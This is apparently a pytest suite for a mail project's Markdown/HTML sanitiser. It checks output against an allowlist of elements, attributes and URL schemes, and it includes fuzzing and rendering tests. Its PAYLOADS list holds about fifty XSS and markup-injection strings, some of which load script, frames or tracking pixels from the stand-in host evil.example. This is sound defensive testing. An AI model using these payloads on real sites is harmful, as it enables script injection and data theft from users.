"""Sanitising of Markdown and HTML to a closed list of elements that can't run or call home."""

from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as lxml_html
from lxml.html import HtmlElement

from mailer.intake.markup import ATTRIBUTES, ELEMENTS, SCHEMES, sanitise_html, to_html


def iterate_elements(html: str) -> Iterator[HtmlElement]:
    if html.strip():
        yield from lxml_html.fragment_fromstring(html, create_parent="main").iterdescendants()


def assert_harmless(html: str) -> None:
    for element in iterate_elements(html):
        assert element.tag in ELEMENTS, html
        extra = {"role"} if element.tag == "table" else set()
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(element.tag, set()) | extra
        assert set(element.attrib) <= allowed, html
        for name in ("href", "src"):
            if name in element.attrib:
                assert urlsplit(element.get(name)).scheme in SCHEMES, html


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://a.example/a.png' onload=alert(1)>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src=javascript:alert(1)>",
    "<img src=//evil.example/pixel.gif>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/relative'>x</a>",
    "<a href='https://a.example/' onclick=alert(1) target=_blank style='position:fixed'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<svg onload=alert(1)><circle/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<p style='background:url(https://evil.example/p)'>x</p>",
    "<p class=preheader id=top>x</p>",
    "<template><script>alert(1)</script></template>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<!-- z0123456789abcde any 1 --><p>x</p>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><p>x</p>",
    "`<script>alert(1)</script>`",
    "<h1 onmouseover=alert(1)>x</h1>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p><plaintext>",
    "\x1b[31m<b>x</b>",
    "<a href='java&#1;script:alert(1)'>x</a>&#27;",
    "<a href='&#1;javascript:alert(1)'>x</a>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_markup_is_sanitised(payload: str) -> None:
    for html in (to_html(payload), sanitise_html(payload)):
        assert_harmless(html)
        assert "<!--" not in html
        assert "<script" not in html.lower()


fragments = st.lists(
    st.one_of(
        st.sampled_from(["<", ">", "</", "<a href=", "<img src=", "<p ", "'", '"', "javascript:",
                         "&#", ";", "<!--", "-->", "<style>", "<svg>", "<math>", "<table>", "<td>",
                         "](", "[", "![", "`", "> ", "- ", "# ", "\n\n", "onload=", "https://a.b/"]),
        st.text(max_size=5),
    ),
    max_size=25,
).map("".join)  # fmt: skip


@given(fragments)
def test_any_markup_gives_allowed_elements_only(text: str) -> None:
    assert_harmless(to_html(text))
    assert_harmless(sanitise_html(text))


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("Hello *there*", "<p>Hello <em>there</em></p>"),
        ("# One\n\n## Two", "<h2>One</h2>\n<h2>Two</h2>"),
        ("~~gone~~", "<p><s>gone</s></p>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        (
            "[x](https://a.example/?q=1&r=2)",
            '<p><a href="https://a.example/?q=1&amp;r=2">x</a></p>',
        ),
        ("<ana@example.org>", '<p><a href="mailto:ana@example.org">ana@example.org</a></p>'),
        ("[x](http://a.example/)", '<p><a href="http://a.example/">x</a></p>'),
        ("<div>x <b>y</b></div>", "x <b>y</b>"),
        ('<p dir="rtl" lang="ar">نص</p>', '<p dir="rtl" lang="ar">نص</p>'),
        ("1 < 2 & 3", "<p>1 &lt; 2 &amp; 3</p>"),
        ("", ""),
    ],
)
def test_markdown_to_html_of_prose(markdown: str, html: str) -> None:
    assert to_html(markdown) == html


def test_markdown_picture_keeps_alt_text() -> None:
    html = to_html('![A boat](https://a.example/b.jpg "At dawn")')
    assert 'alt="A boat"' in html
    assert 'src="https://a.example/b.jpg"' in html


def test_markdown_table_has_table_role() -> None:
    html = to_html("| a | b |\n|---|---|\n| 1 | 2 |")
    assert '<table role="table">' in html
    assert "<th>a</th>" in html


def test_sanitiser_removes_scripts_with_content_and_keeps_other_text() -> None:
    assert sanitise_html("<style>p{}</style><script>x()</script><marquee>news</marquee>") == "news"
